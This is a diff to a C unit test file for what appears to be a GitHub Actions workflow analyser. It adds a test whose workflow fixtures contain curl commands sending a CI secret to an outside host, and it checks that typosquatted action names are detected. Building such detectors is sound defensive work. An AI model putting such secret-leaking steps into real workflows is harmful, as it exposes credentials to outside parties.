@@ -162,6 +162,19 @@ static void knows_references(void **state)
                  "$.jobs[*].steps[*].run.downloads[*].executed", "8:true");
 }
 
+static void sees_secrets_leave(void **state)
+{
+    (void)state;
+    assert_facts("on: push\nenv: {T: '${{ secrets.T }}'}\njobs:\n  a:\n    runs-on: x\n    steps:\n"
+                 "    - run: |\n        curl -d \"$T\" https://acme.io\n"
+                 "        curl -H \"a $T\" https://acme.io\n        curl https://acme.io/?${T}x\n",
+                 "$.jobs[*].steps[*].run.sentSecrets[*]", "8:$T,10:https://acme.io/?${T}x");
+    assert_facts("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n"
+                 "    - {uses: action/cache@v4}\n    - {uses: actions/cache@v4}\n"
+                 "    - {uses: acitons/cache@v4}\n",
+                 "$.jobs[*].steps[*].uses.lookalike", "6:true,7:false,8:true");
+}
+
 static void reads_actions(void **state)
 {
     (void)state;
@@ -187,6 +200,7 @@ int main(void)
         cmocka_unit_test(tells_who_wrote_a_text),
         cmocka_unit_test(knows_references),
         cmocka_unit_test(reads_actions),
+        cmocka_unit_test(sees_secrets_leave),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
